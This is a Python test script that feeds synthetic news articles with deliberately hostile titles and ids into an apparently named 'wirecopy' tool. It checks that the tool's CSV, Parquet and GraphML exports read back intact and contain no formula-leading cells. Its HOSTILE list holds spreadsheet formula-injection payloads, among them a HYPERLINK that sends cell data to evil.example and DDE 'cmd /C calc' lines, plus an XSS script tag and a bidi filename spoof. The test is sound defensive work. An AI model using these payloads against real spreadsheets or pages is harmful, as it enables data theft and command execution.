"""Reads what `wirecopy scan` writes as CSV, Parquet and GraphML back with DuckDB
and networkx, and holds it against the JSON report, cell by cell.

The feed is made here: invented articles, with titles, publishers and ids that
a spreadsheet would run, that break rows, or that XML cannot hold.

Usage: check.py WIRECOPY
"""

import csv
import json
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import duckdb
import networkx

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=quoted already",
    "''",
    'say "hi", she said; twice\r\nor more',
    "]]><script>alert(1)</script>&amp;",
    "bidi \u202e gpj.exe",
    "control \u0001\u001b[31m \u007f \ufffe \uffff",
    "back\\slash \\",
    "NULL",
    "",
    " spaces ",
    "😀 é 東京",
]

STORY = (
    "The harbour board of Fenwick decided on Tuesday that the old sluice gate will be replaced before "
    "the autumn tides, after divers found that two of its five iron ribs had rusted through. The work "
    "will close the inner basin for nine days, and boats that cannot lie dry must leave by the first "
    "of September. A new gate of oak and steel has been ordered from a yard in Hallam. "
)


def feed():
    """Stories in a few versions, so that every table has rows."""
    for number, text in enumerate(HOSTILE):
        own = " ".join(f"word{number}x{place}" for place in range(40))
        record = {
            "id": f"{number:02}{text}",
            "title": text,
            "source": f"paper {number % 5} {text}",
            "text": STORY + own + ("\n\n" + own if number % 3 == 0 else ""),
        }
        if number % 4 != 3:
            stamps = ["2026-05-11T{:02}:00:00Z", "2026-05-{:02}", "2026-05-11T{:02}:30:00"]
            record["published"] = stamps[number % 3].format(number % 20 + 1)
        yield record
    yield {"id": "short 1", "text": "=1+1 two"}
    yield {"id": "short 2", "text": "=1+1, TWO"}
    yield {"id": "empty", "text": ""}


def scan(wirecopy, path, *options):
    subprocess.run([wirecopy, "scan", str(path), "--quiet", *options], check=True)


def as_written(cell):
    """The text of a CSV cell as it was: one apostrophe is ours."""
    return cell[1:] if cell is not None and cell.startswith("'") else cell


def quoted(path):
    return str(path).replace("'", "''")


def check_tables(folder, parquet, report):
    names = sorted(path.stem for path in parquet.glob("*.parquet"))
    assert names == sorted(path.stem for path in folder.glob("*.csv")), names
    for name in names:
        typed = duckdb.sql(f"SELECT * FROM read_parquet('{quoted(parquet / name)}.parquet')")
        columns = list(zip(typed.columns, map(str, typed.types)))
        # Times as seconds: what Python makes of them would need more modules.
        seconds = [f'epoch("{column}")' if "TIMESTAMP" in kind else f'"{column}"' for column, kind in columns]
        rows = typed.project(", ".join(seconds)).fetchall()
        # DuckDB's own reader, and the one of Python.
        bare = duckdb.sql(
            f"SELECT * FROM read_csv('{quoted(folder / name)}.csv', header=true, all_varchar=true, delim=',', "
            "quote='\"', escape='\"', auto_detect=false, columns={"
            + ", ".join(f"'{column}': 'VARCHAR'" for column, _ in columns)
            + "}, allow_quoted_nulls=false, nullstr='', strict_mode=true)"
        ).fetchall()
        with open(folder / f"{name}.csv", newline="", encoding="utf-8") as file:
            lines = list(csv.reader(file, strict=True))
        assert lines[0] == [column for column, _ in columns], (name, lines[0])
        assert len(bare) == len(rows) == len(lines) - 1, (name, len(bare), len(rows), len(lines))
        for typed_row, csv_row, line in zip(rows, bare, lines[1:]):
            for (column, kind), value, cell, other in zip(columns, typed_row, csv_row, line):
                place = f"{name}.{column}"
                if value is None:
                    assert cell is None and other == "", place
                elif kind == "VARCHAR":
                    assert not re.match("[=+@\t\r\n＝＋－＠-]", cell), place
                    assert as_written(cell) == value, (place, cell, value)
                    assert as_written(other) == value, (place, other, value)
                elif kind == "BOOLEAN":
                    assert cell == other == ("true" if value else "false"), place
                elif kind == "BIGINT":
                    assert int(cell) == int(other) == value, place
                elif kind == "DOUBLE":
                    assert float(cell) == float(other) == value, place
                elif kind == "TIMESTAMP WITH TIME ZONE":
                    same = duckdb.sql(f"SELECT epoch('{cell}'::TIMESTAMPTZ)").fetchall()[0][0]
                    assert same == value, (place, cell, value)
                else:
                    raise AssertionError(f"{place} is {kind}")
    check_against_report(parquet, report)


def check_against_report(parquet, report):
    def rows(name, columns):
        path = quoted(parquet / f"{name}.parquet")
        return duckdb.sql(f"SELECT {columns} FROM read_parquet('{path}')").fetchall()

    members = [(c["id"], m["document"], m["role"], m["primary"], m["parent"], m["share_copied"], m["credited"])
               for c in report["clusters"] for m in c["members"]]
    assert members and rows("members", 'cluster, document, role, "primary", parent, share_copied, credited') == members
    pairs = [(p["a"], p["b"], p["verdict"], p["jaccard"], p["direction"]["from"], p["direction"]["evidence"])
             for p in report["pairs"]]
    read = rows("pairs", "a, b, verdict, jaccard, direction_from, direction_evidence")
    assert pairs and [(*row[:5], json.loads(row[5])) for row in read] == pairs
    sources = [(s["source"], t["source"], t["documents"], t["tokens"], t["median_lag_s"])
               for s in report["sources"] for t in s["copied_from"]]
    assert sources and rows("sources", "source, copied_from, documents, tokens, median_lag_s") == sources
    publishers = [(s["source"], s["documents"], s["original"], s["copied"], s["credited"]) for s in report["sources"]]
    assert rows("publishers", "source, documents, original, copied, credited") == publishers
    documents = [(d["id"], d["title"], d["published"], d["tokens"], d["credits"]) for d in report["documents"]]
    read = rows("documents", "id, title, published, tokens, credits")
    assert [(*row[:4], json.loads(row[4])) for row in read] == documents
    repeats = [(r["document"], s[0], s[1]) for r in report["repeats"] for s in r["spans"]]
    assert repeats and rows("repeats", 'document, "start", "end"') == repeats
    groups = [(g["id"], d) for g in report["exact_groups"] for d in g["documents"]]
    assert groups and rows("exact_groups", "id, document") == groups
    passages = [(p["a"], p["b"], *s["a"], *s["b"], s["tokens"], s["kind"]) for p in report["pairs"] for s in p["passages"]]
    assert passages and rows("passages", "a, b, a_start, a_end, b_start, b_end, tokens, kind") == passages
    params = dict(rows("params", "name, value"))
    assert json.loads(params.pop("schema")) == report["schema"]
    assert {name: json.loads(value) for name, value in params.items()} == report["params"]
    assert len(rows("skipped", "reason")) == len(report["skipped"]) > 0


def in_xml(text):
    """What XML 1.0 can hold of a text."""
    return None if text is None else re.sub("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "\ufffd", text)


def check_graph(path, report):
    graph = networkx.read_graphml(path)
    documents = {document["id"]: document for document in report["documents"]}
    memberships = {}
    edges = []
    for cluster in report["clusters"]:
        for member in cluster["members"]:
            if member["document"] not in memberships or member["primary"]:
                memberships[member["document"]] = (cluster, member)
            if member["parent"] is not None:
                edges.append((in_xml(member["parent"]), in_xml(member["document"]), member["share_copied"],
                              member["credited"]))
    by_document = {}
    for name, data in graph.nodes(data=True):
        by_document[data["document"]] = (name, data)
    assert len(by_document) == len(memberships) == graph.number_of_nodes() > 0
    for identity, (cluster, member) in memberships.items():
        document = documents[identity]
        _, data = by_document[in_xml(identity)]
        # networkx gives an empty text as nothing.
        assert (data.get("title") or "") == (in_xml(document["title"]) or ""), data
        assert data["source"] == in_xml(document["source"])
        assert data.get("published") == document["published"]
        assert (data["role"], data["primary"]) == (member["role"], member["primary"])
        assert data["cluster"] == in_xml(cluster["id"])
    read = [(graph.nodes[a]["document"], graph.nodes[b]["document"], data["share_copied"], data.get("credited"))
            for a, b, data in graph.edges(data=True)]
    assert sorted(read, key=str) == sorted(edges, key=str) and edges
    confidences = [data["confidence"] for _, _, data in graph.edges(data=True) if "confidence" in data]
    assert confidences and all(0 < confidence <= 1 for confidence in confidences)


def main():
    wirecopy = str(Path(sys.argv[1]).resolve())
    with tempfile.TemporaryDirectory() as place:
        place = Path(place)
        path = place / "feed.jsonl"
        path.write_text("".join(json.dumps(record) + "\n" for record in feed()), encoding="utf-8")
        scan(wirecopy, path, "--format", "json", "-o", str(place / "report.json"))
        report = json.loads((place / "report.json").read_text(encoding="utf-8"))
        for form in ["csv", "parquet"]:
            scan(wirecopy, path, "--format", form, "-o", str(place / form))
        check_tables(place / "csv", place / "parquet", report)
        scan(wirecopy, path, "--format", "graphml", "-o", str(place / "graph.graphml"))
        check_graph(place / "graph.graphml", report)
    print(f"readback: DuckDB {duckdb.__version__} and networkx {networkx.__version__} read what was written")


if __name__ == "__main__":
    main()
